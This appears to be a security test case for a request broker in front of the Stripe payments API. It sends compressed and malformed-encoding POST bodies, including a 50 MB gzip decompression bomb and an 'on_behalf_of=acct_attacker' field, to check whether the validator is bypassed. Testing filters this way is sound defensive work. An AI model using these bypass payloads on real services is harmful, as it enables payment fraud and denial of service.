# attack: a body that is compressed hides its fields from the check, and the server unpacks it
# expect: broker
# validator: refused
import gzip
import json
import socket
import ssl
import zlib


def ask(target, method="GET", headers="", body=b""):
    """Status and what arrived at the API, None when nothing did."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(1)
        head = f"{method} {target} HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close\r\n{headers}"
        head += f"Content-Length: {len(body)}\r\n\r\n" if body else "\r\n"
        tls.sendall(head.encode("latin-1") + body)
        answer = b""
        while piece := tls.recv(65536):
            answer += piece
    head, _, text = answer.partition(b"\r\n\r\n")
    status = int(head.split()[1])
    return status, json.loads(text).get("echo") if status == 200 else None


PLAIN = b"amount=1&on_behalf_of=acct_attacker"
BOMB = gzip.compress(bytes(50_000_000))
FORM = "Content-Type: application/x-www-form-urlencoded\r\n"
VARIANTS = (
    ("Content-Encoding: gzip", gzip.compress(PLAIN)),
    ("Content-Encoding: deflate", zlib.compress(PLAIN)),
    ("Content-Encoding: x-gzip", gzip.compress(PLAIN)),
    ("Content-Encoding: identity, gzip", gzip.compress(PLAIN)),
    ("Content-Encoding: GZIP", gzip.compress(PLAIN)),
    ("Content-Encoding:\tgzip", gzip.compress(PLAIN)),
    ("Content-Encoding: identity\r\nContent-Encoding: gzip", gzip.compress(PLAIN)),
    ("Content_Encoding: gzip", gzip.compress(PLAIN)),
    ("Content-Encoding : gzip", gzip.compress(PLAIN)),
    ("Transfer-Encoding: gzip, chunked", b"5\r\nhello\r\n0\r\n\r\n"),
    ("Content-Encoding: aws-chunked", b"5;chunk-signature=0\r\nhello\r\n0\r\n\r\n"),
    ("Content-Encoding: gzip", BOMB),
    ("X-Content-Encoding: gzip", gzip.compress(PLAIN)),
)
for header, body in VARIANTS:
    try:
        status, arrived = ask("/v1/payment_intents", "POST", f"{FORM}{header}\r\n", body)
    except (OSError, ValueError, IndexError) as error:
        print(header, type(error).__name__, error)
        continue
    print(header, status)
    if arrived and any(
        "encoding" in name and name != "accept-encoding" and value != "identity" for name, value in arrived["headers"].items()
    ):
        print("ESCAPED: an encoded body arrived:", header, flush=True)
